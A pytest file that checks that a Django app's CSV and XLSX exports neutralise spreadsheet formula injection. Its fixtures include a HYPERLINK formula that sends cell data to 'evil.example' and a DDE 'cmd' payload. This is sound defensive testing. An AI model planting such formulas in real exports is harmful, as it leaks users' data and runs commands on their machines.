"""Exports (CSV and XLSX) never hand a spreadsheet a formula (issue 14, finding 6)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from milepost.core.exports import FORMULA_STARTERS, csv_lines, is_dangerous, safe_cell, xlsx_bytes
from milepost.pipeline.models import Opportunity
from milepost.process.models import Stage
from milepost.testing.factories import make_account, make_opportunity


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a number is still text a user typed
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =HYPERLINK(1)", "'  =HYPERLINK(1)"),
        ("\n@x", "'\n@x"),
        ("Acme = best", "Acme = best"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-0.5, -0.5),
        (True, "true"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def read_back(rows) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(csv_lines(rows)), newline="")))


cells = st.one_of(
    st.text(),
    st.text(alphabet=" \t\r\n=+-@\"',;0123456789abc", max_size=12),
    st.integers(),
    st.decimals(allow_nan=False, allow_infinity=False, places=2),
    st.floats(allow_nan=False, allow_infinity=False),
    st.none(),
    st.booleans(),
)


@given(st.lists(st.lists(cells, min_size=1, max_size=6), min_size=1, max_size=5))
def test_no_exported_cell_starts_a_formula_unless_it_is_a_real_number(rows):
    for row, written in zip(rows, read_back(rows), strict=True):
        for original, cell in zip(row, written, strict=True):
            if not is_dangerous(cell):
                continue
            # The only cells left starting with - or + are numbers the code typed as numbers.
            assert isinstance(original, int | float | Decimal), (original, cell)
            assert not isinstance(original, bool)
            float(cell)  # and they read back as a number


@given(st.text())
def test_neutralised_text_keeps_its_content(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    assert not is_dangerous(cell)


def test_formula_starters_are_owasps_list():
    assert set("=+-@\t\r") == FORMULA_STARTERS


@pytest.mark.django_db
def test_the_pipeline_export_neutralises_every_text_column(org, processes, client):
    account = make_account(name=" @SUM(A1:A9)")
    deal = make_opportunity(org.rep_a1, account=account, stage_key="engage", amount="1200")
    Opportunity.objects.filter(pk=deal.pk).update(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")', next_step="\t=cmd|' /C calc'!A0"
    )
    Stage.objects.filter(pk=deal.stage_id).update(label="-2+3")
    org.rep_a1.first_name = "+Rep"
    org.rep_a1.save()
    client.force_login(org.manager_a)
    response = client.get(reverse("pipeline:table"), {"format": "csv"})
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, row = rows[0], rows[1]
    got = dict(zip(header, row, strict=True))
    for column in ("name", "account", "owner", "stage", "next_step"):
        assert got[column].startswith("'"), (column, got[column])
    assert got["amount"] == "1200.00"
    assert [c for c in row if is_dangerous(c)] == []


def test_xlsx_cells_are_never_formulas_and_numbers_stay_numbers():
    """Read back by a real spreadsheet reader (openpyxl): every dangerous text is text."""
    data = xlsx_bytes(
        [
            ("Deals: [all]", [["name", "amount"], ['=HYPERLINK("http://x")', 5]]),
            ("deals: [ALL]", [["+1", "-2", "@a", "\tx", " =1", Decimal("-12.50")]]),
        ]
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Deals   all", "deals   ALL_1"]  # same name but for case
    first, second = book.worksheets
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert first["A2"].value == '\'=HYPERLINK("http://x")'
    assert first["B2"].value == 5
    assert [c.value for c in second[1]] == ["'+1", "'-2", "'@a", "'\tx", "' =1", -12.5]
